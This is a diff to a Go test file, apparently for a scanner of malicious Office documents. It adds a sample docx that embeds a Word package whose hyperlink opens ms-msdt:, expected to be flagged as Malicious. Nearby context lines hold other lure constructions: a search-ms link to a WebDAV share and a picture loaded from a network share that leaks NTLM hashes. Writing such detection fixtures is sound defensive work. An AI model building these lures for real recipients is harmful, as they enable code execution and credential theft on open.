@@ -210,6 +210,8 @@ func linkSamples() []Sample {
 			Data: AltChunkDocx("afchunk.mht", MHT(followHTML))},
 		{Name: "altchunk-html-search.docx", Want: verdict.HighlySuspicious, Why: "altChunk HTML linking to search-ms: on a WebDAV share",
 			Data: AltChunkDocx("afchunk.htm", []byte(`<html><body><p>Your documents are ready:</p><a href="search-ms:query=invoice&amp;crumb=location:`+davShare+`&amp;displayname=Documents">Open documents</a></body></html>`))},
+		{Name: "altchunk-docx.docx", Want: verdict.Malicious, Why: "altChunk part that is a Word package whose hyperlink opens ms-msdt:",
+			Data: AltChunkDocx("afchunk.docx", Docx(Para("Statement"), ZipEntry{Name: "word/_rels/document.xml.rels", Data: Rels(Rel{Type: "hyperlink", Target: "ms-msdt:/id PCWDiagnostic /skip force", Mode: "External"})}))},
 		{Name: "image-share.pptx", Want: verdict.Suspicious, Why: "slide picture loaded from a network share (NTLM leak on open)",
 			Data: Pptx(Rel{Type: "image", Target: "file://198.51.100.7/share/logo.png", Mode: "External"})},
 		{Name: "webdav-workbook.xlsx", Want: verdict.HighlySuspicious, Why: "external workbook link to a WebDAV path",
